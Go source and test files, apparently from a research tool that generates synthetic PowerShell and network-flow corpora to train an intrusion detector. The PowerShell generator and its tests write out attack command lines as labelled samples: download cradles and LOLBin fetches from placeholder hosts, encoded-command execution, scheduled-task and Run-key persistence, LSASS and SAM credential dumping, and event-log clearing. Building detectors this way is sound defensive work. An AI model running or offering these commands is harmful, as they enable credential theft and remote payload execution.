	psHosts     = []string{"app01.corp.internal", "db02.corp.internal", "files.corp.internal", "build07.corp.internal", "print01.corp.internal"}
)

func (n *psNaming) dir() string {
	root := psRoots[n.rng.Intn(len(psRoots))]
	depth := 1 + n.rng.Intn(2)
	parts := make([]string, depth)
	for i := range parts {
		parts[i] = psDirWords[n.rng.Intn(len(psDirWords))]
	}
	return root + `\` + strings.Join(parts, `\`)
}

func (n *psNaming) file() string {
	return psFileStems[n.rng.Intn(len(psFileStems))] + psFileExts[n.rng.Intn(len(psFileExts))]
}

func (n *psNaming) path() string { return n.dir() + `\` + n.file() }

func (n *psNaming) host() string { return psHosts[n.rng.Intn(len(psHosts))] }

func (n *psNaming) ip() string {
	// TEST-NET-3 keeps synthetic addresses obviously non-routable.
	return fmt.Sprintf("203.0.113.%d", 1+n.rng.Intn(254))
}

func (n *psNaming) service() string { return psServices[n.rng.Intn(len(psServices))] }

func (n *psNaming) proc() string { return psProcs[n.rng.Intn(len(psProcs))] }

func (n *psNaming) pid() int { return 100 + n.rng.Intn(32000) }

// psTemplate is one benign PowerShell generator with an occurrence weight,
// shaping the same heavy-tailed command distribution the shell corpus has
// (Fig. 2 analog for a Windows fleet).
type psTemplate struct {
	name   string
	weight int
	gen    func(r *rand.Rand, nm *psNaming) string
}

var psBenignTemplates = []psTemplate{
	{"Set-Location", 70, func(r *rand.Rand, nm *psNaming) string { return "Set-Location " + nm.dir() }},
	{"Get-ChildItem", 65, func(r *rand.Rand, nm *psNaming) string {
		flags := []string{"", " -Recurse", " -Force", " -Filter *.log"}
		return "Get-ChildItem " + nm.dir() + flags[r.Intn(len(flags))]
	}},
	{"Get-Content", 55, func(r *rand.Rand, nm *psNaming) string {
		if r.Intn(3) == 0 {
			return fmt.Sprintf("Get-Content %s -Tail %d", nm.path(), 10+r.Intn(190))
		}
		return "Get-Content " + nm.path()
	}},
	{"Write-Output", 45, func(r *rand.Rand, nm *psNaming) string {
		msgs := []string{"done", "starting rollout", "ok", "deploy finished", "retrying..."}
		return `Write-Output "` + msgs[r.Intn(len(msgs))] + `"`
	}},
	{"Get-Process", 45, func(r *rand.Rand, nm *psNaming) string {
		opts := []string{
			"Get-Process",
			"Get-Process " + nm.proc(),
			"Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
		}
		return opts[r.Intn(len(opts))]
	}},
	{"Select-String", 40, func(r *rand.Rand, nm *psNaming) string {
		pats := []string{"error", "WARN", "timeout", "denied", "failed"}
		return fmt.Sprintf("Select-String -Pattern '%s' -Path %s", pats[r.Intn(len(pats))], nm.path())
	}},
	{"Get-Service", 35, func(r *rand.Rand, nm *psNaming) string {
		if r.Intn(2) == 0 {
			return "Get-Service " + nm.service()
		}
		return "Get-Service | Where-Object Status -eq Running"
	}},
	{"Copy-Item", 30, func(r *rand.Rand, nm *psNaming) string {
		return "Copy-Item " + nm.path() + " " + nm.dir()
	}},
	{"ipconfig", 25, func(r *rand.Rand, nm *psNaming) string {
		opts := []string{"ipconfig", "ipconfig /all", "ipconfig /flushdns"}
		return opts[r.Intn(len(opts))]
	}},
	{"Get-WinEvent", 22, func(r *rand.Rand, nm *psNaming) string {
		logs := []string{"System", "Application", "Setup"}
		return fmt.Sprintf("Get-WinEvent -LogName %s -MaxEvents %d", logs[r.Intn(len(logs))], 20+r.Intn(180))
	}},
	{"Test-Connection", 20, func(r *rand.Rand, nm *psNaming) string {
		return "Test-Connection " + nm.host() + " -Count 2"
	}},
	{"Get-Date", 18, func(r *rand.Rand, nm *psNaming) string {
		if r.Intn(2) == 0 {
			return "Get-Date"
		}
		return "Get-Date -Format yyyy-MM-dd"
	}},
	{"Remove-Item", 15, func(r *rand.Rand, nm *psNaming) string {
		if r.Intn(3) == 0 {
			return "Remove-Item " + nm.dir() + `\* -Recurse -Force`
		}
		return "Remove-Item " + nm.path()
	}},
	{"Import-Module", 12, func(r *rand.Rand, nm *psNaming) string {
		mods := []string{"ActiveDirectory", "Pester", "PSReadLine", "SqlServer"}
		return "Import-Module " + mods[r.Intn(len(mods))]
	}},
	{"Invoke-WebRequest", 12, func(r *rand.Rand, nm *psNaming) string {
		return "Invoke-WebRequest -Uri https://" + nm.host() + "/healthz -UseBasicParsing"
	}},
	{"Restart-Service", 10, func(r *rand.Rand, nm *psNaming) string {
		return "Restart-Service " + nm.service()
	}},
	{"Move-Item", 9, func(r *rand.Rand, nm *psNaming) string {
		return "Move-Item " + nm.path() + " " + nm.dir()
	}},
	{"New-Item", 8, func(r *rand.Rand, nm *psNaming) string {
		return "New-Item -ItemType Directory -Path " + nm.dir()
	}},
	{"Test-Path", 8, func(r *rand.Rand, nm *psNaming) string { return "Test-Path " + nm.path() }},
	{"tasklist", 7, func(r *rand.Rand, nm *psNaming) string {
		if r.Intn(2) == 0 {
			return "tasklist"
		}
		return "tasklist /fi \"imagename eq " + nm.proc() + ".exe\""
	}},
	{"Get-ItemProperty", 6, func(r *rand.Rand, nm *psNaming) string {
		keys := []string{
			`HKLM:\Software\Microsoft\Windows\CurrentVersion`,
			`HKLM:\System\CurrentControlSet\Services\` + nm.service(),
		}
		return "Get-ItemProperty " + keys[r.Intn(len(keys))]
	}},
	{"robocopy", 6, func(r *rand.Rand, nm *psNaming) string {
		return "robocopy " + nm.dir() + " " + nm.dir() + " /MIR /R:1"
	}},
	{"Stop-Process", 5, func(r *rand.Rand, nm *psNaming) string {
		if r.Intn(2) == 0 {
			return fmt.Sprintf("Stop-Process -Id %d", nm.pid())
		}
		return "Stop-Process -Name " + nm.proc() + " -Force"
	}},
	{"schtasks", 4, func(r *rand.Rand, nm *psNaming) string { return "schtasks /query /fo LIST" }},
	{"Get-Help", 4, func(r *rand.Rand, nm *psNaming) string {
		topics := []string{"Get-Process", "Get-ChildItem", "Select-String", "Copy-Item", "Get-WinEvent"}
		return "Get-Help " + topics[r.Intn(len(topics))]
	}},
	{"Measure-Object", 3, func(r *rand.Rand, nm *psNaming) string {
		return "Get-ChildItem " + nm.dir() + " | Measure-Object Length -Sum"
	}},
	{"hostname", 2, func(r *rand.Rand, nm *psNaming) string { return "hostname" }},
}

var psBenignTotalWeight = func() int {
	t := 0
	for _, b := range psBenignTemplates {
		t += b.weight
	}
	return t
}()

func psBenignLine(r *rand.Rand, nm *psNaming) string {
	w := r.Intn(psBenignTotalWeight)
	for _, b := range psBenignTemplates {
		if w < b.weight {
			return b.gen(r, nm)
		}
		w -= b.weight
	}
	return "Get-Date"
}

func psWeirdLine(r *rand.Rand, nm *psNaming) string {
	switch r.Intn(3) {
	case 0:
		// An admin bulk-renaming with a huge argument list.
		n := 8 + r.Intn(18)
		parts := make([]string, 0, n+2)
		parts = append(parts, "Move-Item")
		for i := 0; i < n; i++ {
			parts = append(parts, fmt.Sprintf("%s.%04d.%x.bak", psFileStems[r.Intn(len(psFileStems))], r.Intn(10000), r.Int63()))
		}
		parts = append(parts, nm.dir())
		return strings.Join(parts, " ")
	case 1:
		var b strings.Builder
		b.WriteString(`Write-Output "`)
		for i := 0; i < 6+r.Intn(8); i++ {
			c := byte('a' + r.Intn(26))
			b.WriteString(strings.Repeat(string(c), 3+r.Intn(12)))
		}
		b.WriteString(`"`)
		return b.String()
	default:
		return fmt.Sprintf("Get-ChildItem %s -Recurse | Where-Object Length -gt %d | Sort-Object Length -Descending | Select-Object -First %d",
			nm.dir(), 1000*(1+r.Intn(900)), 5+r.Intn(20))
	}
}

// psTypoForms misspell common cmdlets; they pass the validator but carry a
// rare command unit the frequency filter removes.
var psTypoForms = map[string][]string{
	"Get-Process":   {"Get-Procces", "Get-Proccess", "Gte-Process"},
	"Get-ChildItem": {"Get-ChlidItem", "Get-Childtem"},
	"Get-Content":   {"Get-Conent", "Get-Contnet"},
	"Set-Location":  {"Set-Locaton", "Set-Loaction"},
	"Copy-Item":     {"Copy-Itme", "Cpoy-Item"},
	"Select-String": {"Selct-String", "Select-Stirng"},
	"ipconfig":      {"ipcofnig", "ipconifg"},
	"Remove-Item":   {"Remvoe-Item", "Remove-Itme"},
}

func psTypoLine(r *rand.Rand, nm *psNaming) string {
	keys := []string{"Get-Process", "Get-ChildItem", "Get-Content", "Set-Location", "Copy-Item", "Select-String", "ipconfig", "Remove-Item"}
	k := keys[r.Intn(len(keys))]
	forms := psTypoForms[k]
	typo := forms[r.Intn(len(forms))]
	for _, b := range psBenignTemplates {
		if b.name == k {
			line := b.gen(r, nm)
			return typo + strings.TrimPrefix(line, k)
		}
	}
	return typo
}

func psGarbageLine(r *rand.Rand) string {
	forms := []string{
		`"unterminated transcript `,
		"| Select-Object Name",
		"Get-Process | | Stop-Process",
		"((Get-Date",
		"} catch {",
		">> " + psFileStems[r.Intn(len(psFileStems))] + ".log",
		"Get-Content 'no closing",
		"; ; ;",
		"%{ $_.Name",
	}
	return forms[r.Intn(len(forms))]
}

func psReconLines(r *rand.Rand) []string {
	all := [][]string{
		{"whoami /all", "net user"},
		{"systeminfo"},
		{"Get-ComputerInfo", "whoami"},
		{"tasklist /v"},
		{"net localgroup Administrators", "hostname"},
	}
	return all[r.Intn(len(all))]
}

// psAttackVariants: in-box variants are the loud, signature-matching forms a
// rule-based EDR flags; out-of-box variants are evasions of the same intent
// (chains of individually-plausible lines, alternate LOLBins, registry
// instead of schtasks persistence).
var psAttackVariants = []struct {
	family string
	inBox  bool
	gen    func(r *rand.Rand, nm *psNaming) []string
}{
	// --- Family: encoded command execution ---
	{"encoded_command", true, func(r *rand.Rand, nm *psNaming) []string {
		return []string{"powershell.exe -NoP -NonI -W Hidden -EncodedCommand " + fakeB64(r)}
	}},
	{"encoded_command", false, func(r *rand.Rand, nm *psNaming) []string {
		forms := []string{
			"pwsh -nop -w hidden -e " + fakeB64(r),
			"powershell -win hidden -enc " + fakeB64(r),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},

	// --- Family: download cradles ---
	{"download_cradle", true, func(r *rand.Rand, nm *psNaming) []string {
		return []string{fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')", nm.ip())}
	}},
	{"download_cradle", false, func(r *rand.Rand, nm *psNaming) []string {
		// Staged: fetch to a dropper path, then execute — each line looks
		// almost routine, only the pair is suspicious.
		drop := fmt.Sprintf(`C:\Users\Public\up%x.exe`, r.Intn(1<<16))
		return []string{
			fmt.Sprintf("Invoke-WebRequest -Uri http://%s/%x.dat -OutFile %s", nm.ip(), r.Intn(1<<16), drop),
			"Start-Process " + drop,
		}
	}},

	// --- Family: LOLBin abuse ---
	{"lolbin", true, func(r *rand.Rand, nm *psNaming) []string {
		return []string{fmt.Sprintf(`certutil -urlcache -split -f http://%s/p.exe C:\Users\Public\p.exe`, nm.ip())}
	}},
	{"lolbin", false, func(r *rand.Rand, nm *psNaming) []string {
		forms := [][]string{
			{fmt.Sprintf("regsvr32 /s /n /u /i:http://%s/x.sct scrobj.dll", nm.ip())},
			{fmt.Sprintf("mshta http://%s/x.hta", nm.ip())},
			{fmt.Sprintf("rundll32 url.dll,OpenURL http://%s/x", nm.ip())},
		}
		return forms[r.Intn(len(forms))]
	}},

	// --- Family: persistence ---
	{"persistence", true, func(r *rand.Rand, nm *psNaming) []string {
		return []string{fmt.Sprintf(`schtasks /create /tn WinUpdateCheck /tr "powershell -enc %s" /sc minute /mo 5`, fakeB64(r))}
	}},
	{"persistence", false, func(r *rand.Rand, nm *psNaming) []string {
		return []string{fmt.Sprintf(`Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name Updater -Value C:\Users\Public\up%x.exe`, r.Intn(1<<16))}
	}},

	// --- Family: credential theft ---
	{"cred_theft", true, func(r *rand.Rand, nm *psNaming) []string {
		return []string{fmt.Sprintf(`rundll32 C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\lsass.dmp full`, nm.pid())}
	}},
	{"cred_theft", false, func(r *rand.Rand, nm *psNaming) []string {
		return []string{
			`reg save HKLM\SAM C:\Users\Public\sam.save`,
			`reg save HKLM\SYSTEM C:\Users\Public\sys.save`,
		}
	}},

	// --- Family: anti-forensics ---
	{"anti_forensics", true, func(r *rand.Rand, nm *psNaming) []string {
		return []string{"Remove-Item (Get-PSReadLineOption).HistorySavePath -Force"}
	}},
	{"anti_forensics", false, func(r *rand.Rand, nm *psNaming) []string {
		forms := []string{"wevtutil cl Security", "Clear-EventLog -LogName Security"}
		return []string{forms[r.Intn(len(forms))]}
	}},
}

func (psModality) NewGen(rng *rand.Rand) Gen { return &psGen{nm: &psNaming{rng: rng}} }

type psGen struct{ nm *psNaming }

func (g *psGen) Benign(r *rand.Rand) string  { return psBenignLine(r, g.nm) }
func (g *psGen) Weird(r *rand.Rand) string   { return psWeirdLine(r, g.nm) }
func (g *psGen) Typo(r *rand.Rand) string    { return psTypoLine(r, g.nm) }
func (g *psGen) Garbage(r *rand.Rand) string { return psGarbageLine(r) }
func (g *psGen) Recon(r *rand.Rand) []string { return psReconLines(r) }

func (g *psGen) Attack(r *rand.Rand, outOfBox bool) Attack {
	candidates := make([]int, 0, len(psAttackVariants)/2)
	for i, v := range psAttackVariants {
		if v.inBox != outOfBox {
			candidates = append(candidates, i)
		}
	}
	v := psAttackVariants[candidates[r.Intn(len(candidates))]]
	return Attack{Family: v.family, InBox: v.inBox, Lines: v.gen(r, g.nm)}
}

func (g *psGen) Families() []string {
	seen := make(map[string]bool)
	var out []string
	for _, v := range psAttackVariants {
		if !seen[v.family] {
			seen[v.family] = true
			out = append(out, v.family)
		}
	}
	return out
}
