package modality

import (
	"errors"
	"math/rand"
	"strings"
	"testing"

	"clmids/internal/shell"
)

func TestRegistryNamesAndLookup(t *testing.T) {
	names := Names()
	for _, want := range []string{Shell, PowerShell, Flows} {
		found := false
		for _, n := range names {
			if n == want {
				found = true
			}
		}
		if !found {
			t.Errorf("registry missing %q (have %v)", want, names)
		}
	}
	if m := MustGet(""); m.Name() != Shell {
		t.Errorf("empty name resolved to %q, want shell", m.Name())
	}
	if Canonical("") != Shell || Canonical(Flows) != Flows {
		t.Error("Canonical mapping wrong")
	}
	_, err := Get("carrier-pigeon")
	if !errors.Is(err, ErrUnknown) {
		t.Fatalf("unknown modality error = %v, want ErrUnknown", err)
	}
	for _, n := range names {
		if !strings.Contains(err.Error(), n) {
			t.Errorf("unknown-modality error does not list %q: %v", n, err)
		}
	}
	if err := Validate(PowerShell); err != nil {
		t.Errorf("Validate(powershell) = %v", err)
	}
}

func TestShellParseMatchesParser(t *testing.T) {
	m := MustGet(Shell)
	rec, err := m.Parse("  grep -i error /var/log/app.log   | grep -v DEBUG | head -n 5 ")
	if err != nil {
		t.Fatal(err)
	}
	if rec.Line != "grep -i error /var/log/app.log | grep -v DEBUG | head -n 5" {
		t.Errorf("canonical form = %q", rec.Line)
	}
	// Distinct names dedup the pipeline's two greps; occurrences keep both.
	if want := []string{"grep", "head"}; !eqStrings(rec.Commands, want) {
		t.Errorf("Commands = %v, want %v", rec.Commands, want)
	}
	if want := []string{"grep", "grep", "head"}; !eqStrings(rec.Occurrences, want) {
		t.Errorf("Occurrences = %v, want %v", rec.Occurrences, want)
	}
	if _, err := m.Parse("echo 'unterminated"); !errors.Is(err, ErrUnparsable) {
		t.Errorf("invalid shell line error = %v, want ErrUnparsable", err)
	}
}

func TestPowerShellParse(t *testing.T) {
	m := MustGet(PowerShell)
	good := []struct {
		line     string
		commands []string
	}{
		{"Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
			[]string{"get-process", "sort-object", "select-object"}},
		{"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
			[]string{"iex"}},
		{`rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full`,
			[]string{"rundll32"}},
		{`C:\Windows\System32\cmd.exe /c whoami`, []string{"cmd.exe"}},
		{"powershell.exe -NoP -W Hidden -EncodedCommand aGk=", []string{"powershell.exe"}},
		{"$out = Get-Content report.log", []string{"get-content"}},
		{"& certutil -urlcache -split -f http://203.0.113.9/p.exe p.exe", []string{"certutil"}},
		{`schtasks /create /tn T /tr "powershell -enc aGk=" /sc minute`, []string{"schtasks"}},
	}
	for _, c := range good {
		rec, err := m.Parse(c.line)
		if err != nil {
			t.Errorf("Parse(%q) rejected: %v", c.line, err)
			continue
		}
		if !eqStrings(rec.Occurrences, c.commands) {
			t.Errorf("Parse(%q) commands = %v, want %v", c.line, rec.Occurrences, c.commands)
		}
	}
	// Whitespace is normalized; quoted spans are preserved verbatim.
	rec, err := m.Parse(`  Write-Output   "two  spaces kept"  `)
	if err != nil {
		t.Fatal(err)
	}
	if rec.Line != `Write-Output "two  spaces kept"` {
		t.Errorf("canonical form = %q", rec.Line)
	}
	bad := []string{
		`"unterminated transcript `,
		"| Select-Object Name",
		"Get-Process | | Stop-Process",
		"((Get-Date",
		"} catch {",
		">> report.log",
		"",
		"   ",
	}
	for _, line := range bad {
		if _, err := m.Parse(line); !errors.Is(err, ErrUnparsable) {
			t.Errorf("Parse(%q) = %v, want ErrUnparsable", line, err)
		}
	}
}

func TestFlowParse(t *testing.T) {
	m := MustGet(Flows)
	rec, err := m.Parse("  tcp   http fin dur2 sb3 db5 sp1 dp2 ")
	if err != nil {
		t.Fatal(err)
	}
	if rec.Line != "tcp http fin dur2 sb3 db5 sp1 dp2" {
		t.Errorf("canonical form = %q", rec.Line)
	}
	if want := []string{"tcp/http"}; !eqStrings(rec.Commands, want) || !eqStrings(rec.Occurrences, want) {
		t.Errorf("units = %v / %v, want %v", rec.Commands, rec.Occurrences, want)
	}
	bad := []string{
		"tcp http fin",
		"tcp http fin durX sb2 db3 sp1 dp1",
		"TCP HTTP FIN dur1 sb2 db3 sp1 dp1",
		"tcp 80 fin dur1 sb2 db3 sp1 dp1",
		"tcp http fin dur1 sb2 db3 sp1 dp1 extra",
		"tcp http fin sb2 dur1 db3 sp1 dp1", // buckets out of order
		"",
	}
	for _, line := range bad {
		if _, err := m.Parse(line); !errors.Is(err, ErrUnparsable) {
			t.Errorf("Parse(%q) = %v, want ErrUnparsable", line, err)
		}
	}
}

// TestGenContract exercises every registered generator directly: benign,
// weird, typo, and recon lines must pass their own validator; garbage must
// fail it; typo command units must stay disjoint from routine ones; attacks
// must parse and cover both boxes across all families.
func TestGenContract(t *testing.T) {
	for _, name := range Names() {
		t.Run(name, func(t *testing.T) {
			m := MustGet(name)
			rng := rand.New(rand.NewSource(5))
			g := m.NewGen(rng)

			routineUnits := map[string]bool{}
			for i := 0; i < 300; i++ {
				line := g.Benign(rng)
				rec, err := m.Parse(line)
				if err != nil {
					t.Fatalf("benign line rejected: %q: %v", line, err)
				}
				for _, u := range rec.Occurrences {
					routineUnits[u] = true
				}
			}
			for i := 0; i < 60; i++ {
				if _, err := m.Parse(g.Weird(rng)); err != nil {
					t.Errorf("weird line rejected: %v", err)
				}
				if _, err := m.Parse(g.Garbage(rng)); !errors.Is(err, ErrUnparsable) {
					t.Errorf("garbage line accepted, err=%v", err)
				}
				for _, line := range g.Recon(rng) {
					if _, err := m.Parse(line); err != nil {
						t.Errorf("recon line rejected: %q: %v", line, err)
					}
				}
				typo := g.Typo(rng)
				rec, err := m.Parse(typo)
				if err != nil {
					t.Errorf("typo line rejected: %q: %v", typo, err)
					continue
				}
				// Only the head unit must be rare: a typo'd pipeline may
				// legitimately flow into routine downstream commands
				// ("dcoker images | head").
				if len(rec.Occurrences) == 0 {
					t.Errorf("typo line %q carries no command unit", typo)
				} else if u := rec.Occurrences[0]; routineUnits[u] {
					t.Errorf("typo line %q leads with routine unit %q", typo, u)
				}
			}

			families := map[string][2]bool{} // family -> (saw in-box, saw oob)
			for i := 0; i < 200; i++ {
				atk := g.Attack(rng, i%2 == 0)
				if len(atk.Lines) == 0 {
					t.Fatalf("attack %s produced no lines", atk.Family)
				}
				for _, line := range atk.Lines {
					if _, err := m.Parse(line); err != nil {
						t.Errorf("attack line rejected: %q: %v", line, err)
					}
				}
				f := families[atk.Family]
				if atk.InBox {
					f[0] = true
				} else {
					f[1] = true
				}
				families[atk.Family] = f
			}
			declared := g.Families()
			if len(declared) == 0 {
				t.Fatal("no attack families declared")
			}
			if len(families) != len(declared) {
				t.Errorf("sampled %d families, declared %d", len(families), len(declared))
			}
			for fam, f := range families {
				if !f[0] || !f[1] {
					t.Errorf("family %s missing in-box or out-of-box variant: %v", fam, f)
				}
			}
		})
	}
}

// TestShellWeirdBenignShapes moved from the corpus package with the
// generator; it pins the §III abnormal-yet-benign behaviours.
func TestShellWeirdBenignShapes(t *testing.T) {
	r := rand.New(rand.NewSource(4))
	nm := newNaming(r)
	sawMv, sawEcho := false, false
	for i := 0; i < 60; i++ {
		line := weirdBenignLine(r, nm)
		if !shell.Valid(line) {
			t.Errorf("weird line does not parse: %q", line)
		}
		if strings.HasPrefix(line, "mv ") {
			sawMv = true
			if len(strings.Fields(line)) < 8 {
				t.Errorf("weird mv too small: %q", line)
			}
		}
		if strings.HasPrefix(line, "echo ") {
			sawEcho = true
			if len(line) < 30 {
				t.Errorf("weird echo too short: %q", line)
			}
		}
	}
	if !sawMv || !sawEcho {
		t.Error("weird generator did not cover both mv and echo shapes")
	}
}

// TestShellAttackVariantsWellFormed moved from the corpus package with the
// generator.
func TestShellAttackVariantsWellFormed(t *testing.T) {
	r := rand.New(rand.NewSource(3))
	nm := newNaming(r)
	families := make(map[string][2]bool)
	for _, v := range attackVariants {
		lines := v.gen(r, nm)
		if len(lines) == 0 {
			t.Fatalf("variant %s produced no lines", v.family)
		}
		for _, line := range lines {
			if !shell.Valid(line) {
				t.Errorf("attack line does not parse: %q", line)
			}
		}
		f := families[v.family]
		if v.inBox {
			f[0] = true
		} else {
			f[1] = true
		}
		families[v.family] = f
	}
	for fam, f := range families {
		if !f[0] || !f[1] {
			t.Errorf("family %s missing in-box or out-of-box variant: %v", fam, f)
		}
	}
	if got := len(ShellAttackFamilies()); got != len(families) {
		t.Errorf("ShellAttackFamilies = %d, want %d", got, len(families))
	}
}

func eqStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
