package modality

import (
	"fmt"
	"math/rand"
	"regexp"
	"strings"
)

func init() { Register(flowModality{}) }

// Flows is the name of the textualized network-flow modality.
const Flows = "flows"

// flowModality scores UNSW-NB15-style network flows textualized with a
// flow-to-words encoding ("From Flows to Words", PAPERS.md): each flow
// becomes one 8-token line
//
//	<proto> <service> <state> dur<D> sb<B> db<B> sp<P> dp<P>
//
// where proto/service/state are lowercase words (service "other" when the
// port maps to nothing well-known) and the numeric features are collapsed
// into single-digit log10 buckets: duration, source/destination bytes, and
// source/destination packets. Bucketing keeps the vocabulary tiny and
// stable, so the same BPE + masked-LM machinery that models command lines
// models flows; the "command unit" counted by the frequency filter is the
// proto/service pair.
type flowModality struct{}

func (flowModality) Name() string { return Flows }

var (
	flowWordRe   = regexp.MustCompile(`^[a-z][a-z0-9]*$`)
	flowBucketRe = regexp.MustCompile(`^(dur|sb|db|sp|dp)[0-9]$`)
)

// flowFieldCount is the fixed token count of an encoded flow.
const flowFieldCount = 8

// Parse validates one encoded flow line. The canonical form is the fields
// re-joined with single spaces; the command unit is "proto/service".
func (flowModality) Parse(line string) (Record, error) {
	fields := strings.Fields(line)
	if len(fields) != flowFieldCount {
		return Record{}, fmt.Errorf("%w: flow has %d fields, want %d", ErrUnparsable, len(fields), flowFieldCount)
	}
	for i, f := range fields[:3] {
		if !flowWordRe.MatchString(f) {
			return Record{}, fmt.Errorf("%w: field %d %q is not a proto/service/state word", ErrUnparsable, i, f)
		}
	}
	for i, prefix := range []string{"dur", "sb", "db", "sp", "dp"} {
		f := fields[3+i]
		if !flowBucketRe.MatchString(f) || !strings.HasPrefix(f, prefix) {
			return Record{}, fmt.Errorf("%w: field %d %q is not a %s bucket", ErrUnparsable, 3+i, f, prefix)
		}
	}
	unit := fields[0] + "/" + fields[1]
	return Record{
		Line:        strings.Join(fields, " "),
		Commands:    []string{unit},
		Occurrences: []string{unit},
	}, nil
}

// flowLine renders one encoded flow.
func flowLine(proto, service, state string, dur, sb, db, sp, dp int) string {
	return fmt.Sprintf("%s %s %s dur%d sb%d db%d sp%d dp%d", proto, service, state, dur, sb, db, sp, dp)
}

// flowBucket draws a bucket digit uniformly from [lo, hi].
func flowBucket(r *rand.Rand, lo, hi int) int {
	return lo + r.Intn(hi-lo+1)
}

// flowTemplate is one benign traffic class with an occurrence weight and
// per-feature bucket ranges, shaping a heavy-tailed service mix the way the
// shell corpus shapes its Fig. 2 command mix.
type flowTemplate struct {
	weight         int
	proto, service string
	states         []string
	dur, sb, db    [2]int
	sp, dp         [2]int
}

var flowBenignTemplates = []flowTemplate{
	{90, "udp", "dns", []string{"con", "int"}, [2]int{0, 1}, [2]int{0, 1}, [2]int{0, 1}, [2]int{0, 0}, [2]int{0, 0}},
	{80, "tcp", "http", []string{"fin"}, [2]int{1, 3}, [2]int{1, 3}, [2]int{2, 5}, [2]int{1, 2}, [2]int{1, 3}},
	{70, "tcp", "ssl", []string{"fin"}, [2]int{1, 4}, [2]int{1, 3}, [2]int{2, 6}, [2]int{1, 3}, [2]int{1, 3}},
	{15, "tcp", "ssh", []string{"fin"}, [2]int{3, 6}, [2]int{2, 4}, [2]int{2, 4}, [2]int{2, 3}, [2]int{2, 3}},
	{12, "tcp", "smb", []string{"fin"}, [2]int{2, 4}, [2]int{2, 5}, [2]int{2, 5}, [2]int{2, 3}, [2]int{2, 3}},
	{12, "tcp", "smtp", []string{"fin"}, [2]int{1, 2}, [2]int{2, 4}, [2]int{1, 2}, [2]int{1, 2}, [2]int{1, 2}},
	{10, "udp", "ntp", []string{"con"}, [2]int{0, 0}, [2]int{0, 0}, [2]int{0, 0}, [2]int{0, 0}, [2]int{0, 0}},
	{8, "tcp", "ftp", []string{"fin"}, [2]int{2, 4}, [2]int{1, 2}, [2]int{3, 6}, [2]int{1, 2}, [2]int{2, 4}},
	{8, "icmp", "other", []string{"con"}, [2]int{0, 1}, [2]int{0, 1}, [2]int{0, 1}, [2]int{0, 0}, [2]int{0, 0}},
	{6, "udp", "snmp", []string{"con"}, [2]int{0, 1}, [2]int{0, 1}, [2]int{0, 1}, [2]int{0, 0}, [2]int{0, 0}},
	{5, "tcp", "rdp", []string{"fin"}, [2]int{4, 7}, [2]int{3, 5}, [2]int{3, 6}, [2]int{3, 4}, [2]int{3, 4}},
	{5, "tcp", "ldap", []string{"fin"}, [2]int{1, 2}, [2]int{1, 2}, [2]int{1, 2}, [2]int{1, 1}, [2]int{1, 1}},
	{4, "tcp", "pop3", []string{"fin"}, [2]int{1, 2}, [2]int{1, 2}, [2]int{2, 3}, [2]int{1, 1}, [2]int{1, 2}},
}

var flowBenignTotalWeight = func() int {
	t := 0
	for _, b := range flowBenignTemplates {
		t += b.weight
	}
	return t
}()

func (t flowTemplate) render(r *rand.Rand) string {
	return flowLine(t.proto, t.service, t.states[r.Intn(len(t.states))],
		flowBucket(r, t.dur[0], t.dur[1]),
		flowBucket(r, t.sb[0], t.sb[1]),
		flowBucket(r, t.db[0], t.db[1]),
		flowBucket(r, t.sp[0], t.sp[1]),
		flowBucket(r, t.dp[0], t.dp[1]))
}

func flowBenignLine(r *rand.Rand) string {
	w := r.Intn(flowBenignTotalWeight)
	for _, b := range flowBenignTemplates {
		if w < b.weight {
			return b.render(r)
		}
		w -= b.weight
	}
	return flowBenignTemplates[0].render(r)
}

// flowWeirdLine emits abnormal-yet-benign traffic: nightly backups and bulk
// media transfers whose byte buckets sit far outside the routine ranges.
func flowWeirdLine(r *rand.Rand) string {
	switch r.Intn(3) {
	case 0: // nightly backup push to the file server
		return flowLine("tcp", "smb", "fin", flowBucket(r, 7, 9), 9, flowBucket(r, 0, 2), flowBucket(r, 6, 8), flowBucket(r, 3, 5))
	case 1: // long video stream / bulk download
		return flowLine("tcp", "ssl", "fin", flowBucket(r, 7, 9), flowBucket(r, 1, 3), 9, flowBucket(r, 3, 5), flowBucket(r, 6, 8))
	default: // big OS-image fetch over http
		return flowLine("tcp", "http", "fin", flowBucket(r, 5, 7), flowBucket(r, 1, 2), flowBucket(r, 8, 9), flowBucket(r, 2, 3), flowBucket(r, 6, 8))
	}
}

// flowTypoLine emits a flow whose service word is corrupted upstream (the
// textualizer's port→service map misfired): it parses, but the rare
// proto/service unit is what the frequency filter removes.
func flowTypoLine(r *rand.Rand) string {
	typos := []string{"htpp", "snps", "shh", "dsn", "slss", "stmp"}
	t := flowBenignTemplates[r.Intn(len(flowBenignTemplates))]
	return flowLine(t.proto, typos[r.Intn(len(typos))], t.states[r.Intn(len(t.states))],
		flowBucket(r, t.dur[0], t.dur[1]),
		flowBucket(r, t.sb[0], t.sb[1]),
		flowBucket(r, t.db[0], t.db[1]),
		flowBucket(r, t.sp[0], t.sp[1]),
		flowBucket(r, t.dp[0], t.dp[1]))
}

// flowGarbageLine emits a record the flow validator rejects: truncated
// exports, corrupted buckets, un-normalized uppercase rows.
func flowGarbageLine(r *rand.Rand) string {
	forms := []string{
		"tcp http fin",
		"tcp http fin durX sb2 db3 sp1 dp1",
		"TCP HTTP FIN dur1 sb2 db3 sp1 dp1",
		"tcp 80 fin dur1 sb2 db3 sp1 dp1",
		"tcp http fin dur1 sb2 db3 sp1 dp1 extra",
		",,, ,,, ,,,",
		"tcp http fin dur1 sb2 db3 sp1 d",
	}
	return forms[r.Intn(len(forms))]
}

// flowReconLines is the discovery prefix: a burst of DNS lookups and a probe.
func flowReconLines(r *rand.Rand) []string {
	all := [][]string{
		{
			flowLine("udp", "dns", "con", 0, flowBucket(r, 0, 1), flowBucket(r, 0, 1), 0, 0),
